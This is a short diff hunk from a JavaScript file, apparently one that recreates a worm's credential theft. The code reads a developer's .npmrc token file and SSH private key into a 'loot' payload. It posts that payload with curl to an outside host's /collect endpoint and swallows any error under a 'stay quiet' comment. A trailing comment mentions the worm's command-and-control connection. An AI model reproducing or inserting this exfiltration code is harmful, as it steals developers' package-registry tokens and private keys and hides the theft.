@@ -32,7 +32,7 @@ const loot = JSON.stringify({ npmrc: steal('.npmrc'), sshKey: steal('.ssh/id_rsa
 try {
   execFileSync('curl', ['-s', '-m', '5', '-o', '/dev/null', '--data-binary', '@-',
                         `http://${outsideHost}:${outsidePort}/collect`],
-               { input: loot, stdio: ['pipe', 'ignore', 'ignore'] });
+               { input: loot });
 } catch { /* stay quiet */ }
 
 // ...and a direct connection, as the worm did to reach its command-and-control host.
